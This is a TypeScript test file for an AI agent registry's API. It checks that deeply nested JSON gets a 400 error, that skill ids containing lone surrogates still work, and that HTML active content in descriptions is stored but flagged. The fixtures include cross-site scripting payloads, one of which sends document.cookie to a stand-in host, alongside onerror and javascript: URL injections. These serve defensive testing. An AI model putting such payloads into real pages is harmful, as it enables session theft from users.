/**
 * Hostile documents through the registry's API: nesting too deep to walk is a 400 that says where (it was a 500),
 * a lone surrogate in a skill id registers and every view of the agent answers (the TD view was a 500 with a
 * URIError), and HTML active content in a description is stored but flagged with a reason.
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { aidipAgent, asArray, asObject, startRegistry, type TestRegistry } from '../support.js';

describe('hostile input through the API', () => {
  let r: TestRegistry;
  let publisher: string;

  before(async () => {
    r = await startRegistry();
    publisher = (await r.token('publisher', { publisher: 'acme' })).token;
  });
  after(() => r.close());

  test('a document nested 3,000 deep is a 400 naming the limit and the path, not a 500', async () => {
    const deep = `${'{"a":'.repeat(3000)}1${'}'.repeat(3000)}`;
    const text = JSON.stringify(aidipAgent({ name: 'Deep' })).replace(
      '"operations":',
      `"deep":${deep},"operations":`,
    );
    const answer = await r.request('/agents', {
      token: publisher,
      raw: text,
      headers: { 'content-type': 'application/json' },
    });
    assert.equal(answer.status, 400, answer.text);
    const body = asObject(answer.json);
    assert.equal(body['code'], 'InvalidJson');
    assert.match(String(body['detail']), /^Nesting deeper than 256 levels at \/deep\/a\/a\/.*…/);
  });

  test('invalid JSON nested 10,000 deep is a 400 with the line and column', async () => {
    const answer = await r.request('/agents', {
      token: publisher,
      raw: `{"name": ${'['.repeat(10_000)}`,
      headers: { 'content-type': 'application/json' },
    });
    assert.equal(answer.status, 400, answer.text);
    assert.match(
      String(asObject(answer.json)['detail']),
      /nesting deeper than 256 levels at line 1, column \d+/,
    );
  });

  test('a lone surrogate in an A2A skill id registers, and every view of the agent answers', async () => {
    const card = {
      name: 'Surrogate',
      description: 'A card whose skill id is half a UTF-16 pair.',
      version: '1.0.0',
      protocolVersion: '0.3.0',
      url: 'https://agents.example.com/a2a',
      preferredTransport: 'JSONRPC',
      capabilities: {},
      defaultInputModes: ['text/plain'],
      defaultOutputModes: ['text/plain'],
      skills: [{ id: 'look\ud800up', name: 'Lookup', description: 'Looks things up.', tags: ['x'] }],
    };
    const created = await r.request('/agents', { token: publisher, body: card });
    assert.equal(created.status, 201, created.text);
    const id = String(asObject(created.json)['id']);
    for (const format of ['td', 'woa', 'awp', 'a2a', 'agent-json', 'aidip', 'mcp']) {
      const view = await r.request(`/agents/${encodeURIComponent(id)}?format=${format}`);
      assert.equal(view.status, 200, `${format}: ${view.text}`);
    }
  });

  test('HTML active content in a description is stored, flagged, with the reason', async () => {
    const cases: Array<[string, RegExp]> = [
      ['Weather lookups.<script>fetch("//x.example/?c="+document.cookie)</script>', /<script> element/],
      ['Weather lookups. <img src=x onerror=alert(1)>', /event-handler attribute/],
      ['Weather lookups. [Docs](javascript:alert(1))', /javascript: .*URL/],
      ['Weather lookups. <iframe src="https://x.example"></iframe>', /embeds other content/],
    ];
    for (const [index, [description, reason]] of cases.entries()) {
      const id = `active-${index}`;
      const created = await r.request('/agents', {
        token: publisher,
        body: aidipAgent({ id, name: `Active ${index}`, description }),
      });
      assert.equal(created.status, 201, created.text);
      const metadata = asObject((await r.request(`/agents/${id}`)).json);
      assert.equal(metadata['flagged'], true, description);
      const flag = asArray(metadata['safety_flags']).find((entry) => entry['rule'] === 'active-content');
      assert.ok(flag !== undefined, `${description}: ${JSON.stringify(metadata['safety_flags'])}`);
      assert.equal(flag['pointer'], '/description');
      assert.match(String(flag['excerpt']), reason);
    }
  });
});
